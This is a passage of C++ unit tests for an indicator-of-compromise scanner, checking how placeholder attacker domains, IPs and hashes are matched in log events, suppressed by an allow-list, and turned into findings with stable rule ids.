  EXPECT_THAT(scan.scan("QueryName", "Own.Evil.Example"), IsEmpty());
  EXPECT_THAT(scan.scan("QueryName", "www.own.evil.example"), IsEmpty());
  EXPECT_THAT(scan.scan("QueryName", "a.own.evil.example"), ElementsAre("evil.example"));
  EXPECT_THAT(scan.scan("QueryName", "x.y.all.evil.example"), IsEmpty());
  EXPECT_THAT(scan.scan("QueryName", "evil.example"), ElementsAre("evil.example"));
  EXPECT_THAT(scan.scan("Sender", "a@own.evil.example"), IsEmpty());
  EXPECT_EQ(scan.finish(), "suppressed by the allow-list: 7");
  AllowedScan nothing("evil.example\n", "own.evil.example\n");
  EXPECT_THAT(nothing.scan("QueryName", "evil.example"), ElementsAre("evil.example"));
  EXPECT_EQ(nothing.finish(), "");
}

TEST(IndicatorScan, one_finding_for_each_indicator_and_event_with_all_it_says) {
  Scanner scanner("evil.example, from the June report\n");
  ASSERT_THAT(scanner.scan({{"QueryName", "a.evil.example"},
                            {"Image", "C:\\x.exe"},
                            {"CommandLine", "x evil.example"}}),
              ElementsAre("evil.example"));
  const model::Finding& finding = scanner.last[0];
  EXPECT_EQ(finding.rule->title, "Indicator: evil.example");
  EXPECT_EQ(finding.rule->kind, model::RuleKind::Indicator);
  EXPECT_EQ(finding.rule->level, model::Level::High);
  EXPECT_EQ(finding.rule->file, "list.txt");
  EXPECT_THAT(finding.rule->id, testing::MatchesRegex("indicator-[0-9a-f]{16}"));
  ASSERT_EQ(finding.events.size(), 1U);
  EXPECT_EQ(finding.events[0].locator.record, 7U);
  std::vector<std::string> fields;
  for (const model::NamedText& field : finding.fields) {
    fields.push_back(field.name + "=" + field.value);
  }
  EXPECT_THAT(fields,
              testing::IsSupersetOf({"QueryName=a.evil.example", "CommandLine=x evil.example",
                                     "Image=C:\\x.exe", "indicator.note=from the June report"}));
  EXPECT_THAT(finding.entities,
              testing::Contains(model::Entity{"domain", "a.evil.example", "indicator"}));
}

TEST(IndicatorScan, the_id_of_a_rule_depends_on_kind_and_value_alone) {
  Scanner one("evil.example\n");
  Scanner other("# other place\n198.51.100.1\nEVIL[.]example, note\n");
  one.scan({{"QueryName", "evil.example"}});
  other.scan({{"QueryName", "evil.example"}});
  EXPECT_EQ(one.last.at(0).rule->id, other.last.at(0).rule->id);
  // SHA-256 of "domain:evil.example".
  EXPECT_EQ(one.last.at(0).rule->id, "indicator-e21b45c40cae4567");
}

TEST(IndicatorScan, only_fields_that_can_match_are_asked_for) {
  const Scanner digests("0cc175b9c0f1b6a831c399e269772661\n");
  EXPECT_TRUE(digests.fields().find("Hashes").has_value());
  EXPECT_FALSE(digests.fields().find("cs-referer").has_value());
  const Scanner urls("http://evil.example/\n");
  EXPECT_TRUE(urls.fields().find("cs-referer").has_value());
  EXPECT_FALSE(urls.fields().find("user.email").has_value());
}

TEST(IndicatorScan, nothing_is_found_without_indicators) {
  Scanner scanner("# empty\n");
  EXPECT_THAT(scanner.scan({{"CommandLine", "http://evil.example 198.51.100.1"}}), IsEmpty());
}

TEST(IndicatorDiagnostics, every_kind_has_an_own_id_and_explains_itself) {
  std::vector<std::string_view> ids;
  for (const DiagnosticKind* kind : all_diagnostics()) {
    EXPECT_TRUE(kind->id.starts_with("indicator-")) << kind->id;
    EXPECT_GT(kind->explanation.size(), 40U);
    EXPECT_THAT(ids, testing::Not(testing::Contains(kind->id)));
    ids.push_back(kind->id);
  }
}

}  // namespace
}  // namespace longwatch::detect::indicator
